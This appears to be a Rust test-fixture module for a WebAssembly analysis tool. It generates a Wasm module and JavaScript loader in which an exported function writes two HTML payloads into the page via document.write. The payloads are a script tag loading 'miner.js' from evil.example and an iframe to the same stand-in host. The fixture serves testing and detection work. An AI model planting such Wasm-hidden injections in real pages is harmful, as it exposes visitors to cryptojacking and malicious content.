#![allow(dead_code)]

pub mod fixtures;
pub mod gen;

/// Wasm half of the running example: both payload strings sit in one data
/// segment, 64 bytes apart, and `foo` hands each one to the imported writer
/// in a loop.
pub fn fig1_wat() -> String {
    let pad = |s: &str| format!("{}\\00{}", s.replace('"', "\\\""), " ".repeat(63 - s.len()));
    format!(
        r#"(module
  (import "env" "document_write" (func $write (param i32)))
  (memory 1)
  (data (i32.const 0) "{}{}")
  (func $foo (export "foo") (local $i i32)
    (block $done
      (loop $next
        (br_if $done (i32.ge_u (local.get $i) (i32.const 2)))
        (call $write (i32.mul (local.get $i) (i32.const 64)))
        (local.set $i (i32.add (local.get $i) (i32.const 1)))
        (br $next)))))"#,
        pad(FIG1_PAYLOADS[0]),
        pad(FIG1_PAYLOADS[1])
    )
}

pub const FIG1_PAYLOADS: [&str; 2] = [
    "<script src=\"http://evil.example/miner.js\"></script>",
    "<iframe src=\"http://evil.example/x.html\"></iframe>",
];

pub fn fig1_wasm() -> Vec<u8> {
    wat::parse_str(fig1_wat()).expect("fixture assembles")
}

pub fn byte_list(bytes: &[u8]) -> String {
    bytes
        .iter()
        .map(|b| b.to_string())
        .collect::<Vec<_>>()
        .join(",")
}

/// JavaScript half: compile, instantiate with `document.write` as the
/// import, call the export.
pub fn fig1_js() -> String {
    format!(
        "const bytes = new Uint8Array([{}]);\n\
         const wasmModule = new WebAssembly.Module(bytes);\n\
         const wasmInstance = new WebAssembly.Instance(wasmModule, {{\n  env: {{ document_write: document.write }}\n}});\n\
         wasmInstance.exports.foo();\n",
        byte_list(&fig1_wasm())
    )
}

/// Two-argument import-free arithmetic used by several oracle tests.
pub const SMALL_WAT: &str = r#"
(module
  (func $add (export "add") (param i32 i32) (result i32)
    (i32.add (local.get 0) (local.get 1)))
  (func $pop (export "pop") (param i32) (result i32)
    (i32.popcnt (local.get 0)))
  (func $sum (export "sum") (param $n i32) (result i32) (local $i i32) (local $acc i32)
    (local.set $i (i32.const 1))
    (block $out
      (loop $top
        (br_if $out (i32.gt_s (local.get $i) (local.get $n)))
        (local.set $acc (i32.add (local.get $acc) (local.get $i)))
        (local.set $i (i32.add (local.get $i) (i32.const 1)))
        (br $top)))
    (local.get $acc))
  (func $div (export "div") (param i32 i32) (result i32)
    (i32.div_s (local.get 0) (local.get 1))))
"#;
